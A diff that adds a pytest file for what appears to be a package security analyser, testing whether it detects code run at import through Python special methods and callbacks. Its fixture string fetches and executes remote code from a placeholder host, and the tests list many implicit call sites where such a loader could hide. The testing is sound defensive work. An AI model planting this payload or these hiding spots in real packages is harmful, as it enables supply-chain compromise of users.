@@ -1,0 +1,72 @@
+"""What an operator or a built-in function calls runs where that stands, as if it had been called by name.
+
+Source: The Python Language Reference, 3.3 Special method names.
+"""
+
+import pytest
+from attack_files import wheel
+
+from ostiary.core.coverage import Reach
+from ostiary.program.flow import Act
+from ostiary.program.model import Program
+
+HARM = "exec(urllib.request.urlopen('http://a.example.invalid/x').read())"
+
+OPERATORS = {
+    "__setitem__(self, key, value)": "C()[1] = 2",
+    "__delitem__(self, key)": "del C()[1]",
+    "__getattribute__(self, name)": "C().name",
+    "__setattr__(self, name, value)": "C().name = 1",
+    "__delattr__(self, name)": "del C().name",
+    "__lt__(self, other)": "sorted([C(), C()])",
+    "__contains__(self, one)": "1 in C()",
+    "__radd__(self, other)": "1 + C()",
+    "__imul__(self, other)": "c = C(); c *= 2",
+    "__matmul__(self, other)": "C() @ 1",
+    "__neg__(self)": "-C()",
+    "__format__(self, spec)": "f'{C()}'",
+    "__index__(self)": "[1][C()]",
+    "__fspath__(self)": "open(C())",
+    "__missing__(self, key)": "C()[1]",
+    "__set__(self, holder, value)": "class D:\n    x = C()\nD().x = 1",
+    "__instancecheck__(self, one)": "isinstance(1, C())",
+    "__mro_entries__(self, bases)": "class D(C()): pass",
+}
+
+CALLERS = {
+    "cmp_to_key": "sorted([1, 2], key=functools.cmp_to_key(harm))",
+    "sub": "re.sub('a', harm, 'a')",
+    "iter": "next(iter(harm, 1))",
+    "defaultdict": "collections.defaultdict(harm)['a']",
+    "object_hook": "json.loads('{}', object_hook=harm)",
+    "codec": "codecs.register(harm)",
+    "finalize": "weakref.finalize(harm, harm)",
+    "property": "class D:\n    x = property(harm)\nD().x",
+}
+
+
+def moments(text: str) -> set[Reach]:
+    names = "codecs, collections, functools, json, re, urllib.request, weakref"
+    files = {"pkg/__init__.py": f"import {names}\n{text}\n"}
+    programs = [one for one in wheel(files).facts if isinstance(one, Program)]
+    return {flow.reach for one in programs for flow in one.flows if flow.act is Act.EXECUTE}
+
+
+@pytest.mark.parametrize("method", OPERATORS)
+def test_an_operator_calls(method: str) -> None:
+    kind = f"class C:\n    def {method}:\n        {HARM}\n"
+    assert moments(kind + OPERATORS[method]) == {Reach.IMPORT}
+    assert moments(kind) == {Reach.CALL}, "nobody makes an object of it"
+
+
+@pytest.mark.parametrize("how", CALLERS)
+def test_what_is_handed_over_is_called(how: str) -> None:
+    function = f"def harm(*given):\n    {HARM}\n"
+    assert moments(function + CALLERS[how]) == {Reach.IMPORT}
+    assert moments(function) == {Reach.CALL}, "nobody calls it"
+
+
+def test_a_property_that_is_kept() -> None:
+    kind = f"class C:\n    @functools.cached_property\n    def x(self):\n        {HARM}\n"
+    assert moments(kind + "C().x") == {Reach.IMPORT}
+    assert moments(kind + "C()") == {Reach.CALL}
